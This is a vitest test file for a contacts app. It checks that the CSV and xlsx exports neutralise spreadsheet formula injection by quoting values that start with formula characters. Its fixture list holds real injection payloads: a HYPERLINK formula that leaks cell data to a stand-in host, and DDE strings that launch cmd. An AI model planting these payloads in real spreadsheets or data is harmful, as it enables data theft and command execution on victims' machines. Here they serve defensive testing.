import http from 'node:http';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../helpers/test-server';

/**
 * R12: CSV / spreadsheet formula injection. A register value that a spreadsheet would run as a
 * formula (starting with = + - @ tab or CR) comes out of the CSV and xlsx exports as text
 * (prefixed with '), and separators, quotes and line breaks cannot break the CSV's structure.
 */

const HOSTILE = [
  '=HYPERLINK("http://mal.example/?x="&A1,"Clique")',
  '=cmd|\' /C calc\'!A0',
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];
const STRUCTURAL = 'Ana; "Beta"\nLinha 2;;"';
const PLAIN = 'Maria Souza';

let t: TestServer;
let admin: string;
/** The display names as stored (the server trims leading tabs and line breaks). */
let stored: string[];

beforeAll(async () => {
  t = await startTestServer();
  admin = await t.tokenFor('acme', 'acme-admin');
  for (const displayName of [...HOSTILE, STRUCTURAL, PLAIN]) {
    const res = await t.api('/api/contacts', { method: 'POST', token: admin, body: { displayName, channels: ['whatsapp'] } });
    expect(res.status, `${JSON.stringify(displayName)}: ${res.text}`).toBe(201);
  }
  stored = (await t.server.db('contacts').where({ tenant_id: 'acme' }).select('display_name')).map((r: { display_name: string }) => r.display_name);
  expect(stored.filter((s) => /^[=+\-@]/.test(s)).length).toBe(HOSTILE.length);
});
afterAll(() => t?.close());

function download(path: string): Promise<{ status: number; type: string; body: Buffer }> {
  const url = new URL(t.baseUrl);
  return new Promise((resolve, reject) => {
    http
      .get({ hostname: url.hostname, port: url.port, path, headers: { host: t.hosts.acme, authorization: `Bearer ${admin}` } }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, type: String(res.headers['content-type'] ?? ''), body: Buffer.concat(chunks) }));
      })
      .on('error', reject);
  });
}

const expected = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

describe('exports neutralise formulas (R12)', () => {
  it('CSV: every formula-looking cell is prefixed with a quote and the structure holds', async () => {
    const res = await download('/api/contacts/getRawCsvDataReport');
    expect(res.status, res.body.toString()).toBe(200);
    expect(res.type).toContain('text/csv');
    const rows = parse(res.body.toString('utf8'), { delimiter: ';', bom: true, relax_column_count: false }) as string[][];
    const header = rows[0]!;
    const column = header.findIndex((h) => /nome de exibi|displayName/i.test(h));
    expect(column, `header: ${header.join(' | ')}`).toBeGreaterThanOrEqual(0);
    // One line per contact: the structural value did not split or shift a row.
    expect(rows.length).toBe(1 + HOSTILE.length + 2);
    for (const row of rows) expect(row.length).toBe(header.length);
    const names = rows.slice(1).map((r) => r[column]!);
    expect(names.sort()).toEqual(stored.map(expected).sort());
    expect(names).toContain(STRUCTURAL);
    // No cell anywhere starts a formula.
    for (const row of rows.slice(1)) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('xlsx: the same values are text cells, never formulas', async () => {
    const res = await download('/api/contacts/getXlsxDataReport');
    expect(res.status, res.body.toString().slice(0, 300)).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.body as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    const cells: string[] = [];
    sheet.eachRow((row, n) => {
      row.eachCell((cell) => {
        expect(cell.type, `row ${n} ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula, `row ${n} ${cell.address}`).toBeUndefined();
        if (n > 1 && typeof cell.value === 'string') {
          expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
          cells.push(cell.value);
        }
      });
    });
    expect(sheet.rowCount).toBe(1 + stored.length);
    for (const name of stored) expect(cells, JSON.stringify(name)).toContain(expected(name));
  });
});
